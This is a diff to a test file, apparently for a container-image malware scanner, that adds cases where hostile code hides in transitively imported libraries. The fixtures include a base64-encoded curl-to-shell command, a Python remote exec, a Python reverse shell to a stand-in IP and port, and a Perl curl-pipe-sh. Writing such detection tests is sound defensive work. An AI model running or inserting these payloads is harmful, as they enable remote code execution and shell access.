@@ -71,6 +71,52 @@ export const LIBRARIES: readonly ImageCase[] = [
     'usr/local/bundle/gems/x-1.0/lib/x.rb': RUBY,
   }),
   run(['perl', '-MX', '-e', '1'], { 'usr/share/perl5/X.pm': `system("curl -s ${URL} | sh");\n1;\n` }),
+  // A library that only another one imports, of which no text is kept: it runs nothing itself.
+  run(['node', 'server.js'], {
+    'app/server.js': 'require("x")();\n',
+    ...npm('x', 'module.exports = require("y");\n'),
+    ...npm('y', NODE),
+  }),
+  run(['node', 'server.js'], {
+    'app/server.js': 'require("x");\n',
+    ...npm('x', 'module.exports = require("y");\n'),
+    'app/node_modules/x/node_modules/y/index.js':
+      'const { execSync } = require("child_process");\nexecSync(Buffer.from("Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaAo=", "base64").toString());\n',
+  }),
+  run(['python3', 'm.py'], {
+    'app/m.py': 'import x\nx.run()\n',
+    [`${PACKAGES}/x/__init__.py`]: 'import y\n',
+    [`${PACKAGES}/y/core.py`]: 'import requests\nr = requests.get("http://198.51.100.7/x")\nexec(r.text)\n',
+  }),
+  run(
+    ['python3', 'm.py'],
+    {
+      'app/m.py': 'import json\n',
+      'usr/lib/python3.12/json/__init__.py': '',
+      [`${PACKAGES}/y/core.py`]:
+        'import socket, os, subprocess\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n',
+    },
+    'reverse-shell/remote-shell',
+  ),
+  run(['ruby', 'm.rb'], {
+    'app/m.rb': "require 'x'\n",
+    'usr/local/bundle/gems/x-1.0/lib/x.rb': "require 'y'\n",
+    'usr/local/bundle/gems/y-2.0/lib/y.rb': RUBY,
+  }),
+  run(['perl', '-MX', '-e', '1'], {
+    'usr/share/perl5/X.pm': 'use Y;\n1;\n',
+    'usr/share/perl5/Y.pm': `system("curl -s ${URL} | sh");\n1;\n`,
+  }),
+  // Bundled into one large file.
+  run(['node', 'server.js'], {
+    'app/server.js': 'require("x");\n',
+    ...npm('x', `${'module.exports.a = 1;\n'.repeat(60_000)}${NODE}`),
+  }),
+  run(['node', 'server.js'], {
+    'app/server.js': 'require("x");\n',
+    ...npm('x', 'module.exports = require("z");\n'),
+    ...npm('z', `${'module.exports.a = 1;\n'.repeat(120_000)}${NODE}`),
+  }),
   // What a package lists is no excuse for a start that nobody read: whoever makes an image writes its lists.
   run(['sh', '/app/node_modules/x/a.txt'], npm('x', '', { 'app/node_modules/x/a.txt': SHELL }), UNREAD),
   run(
@@ -130,9 +176,23 @@ export const LIBRARY_TWINS: readonly ImageCase[] = [
     ),
   },
   {
-    name: 'a library that nothing imports',
+    name: 'a library that no program can import: nothing that starts imports any',
     spec: image(
       { 'app/m.py': 'import json\n', [`${PACKAGES}/x/__init__.py`]: PYTHON },
+      { Entrypoint: ['python3', '/app/m.py'] },
+    ),
+  },
+  {
+    name: 'libraries that nothing imports by name, and that fetch a program of their own or run what they are told',
+    spec: image(
+      {
+        'app/m.py': 'import x\n',
+        [`${PACKAGES}/x/__init__.py`]: 'import y\n',
+        [`${PACKAGES}/y/tunnel.py`]:
+          'import os, stat, subprocess, requests\nPATH = os.path.join(os.path.dirname(__file__), "frpc")\ndef get(url):\n    with open(PATH, "wb") as file:\n        file.write(requests.get(url).content)\n    os.chmod(PATH, os.stat(PATH).st_mode | stat.S_IEXEC)\ndef run(args):\n    return subprocess.Popen([PATH, *args])\n',
+        [`${PACKAGES}/y/load.py`]:
+          'import zlib, subprocess\ndef load(path):\n    return zlib.decompress(open(path, "rb").read())\ndef call(args):\n    return subprocess.check_output(args)\n',
+      },
       { Entrypoint: ['python3', '/app/m.py'] },
     ),
   },
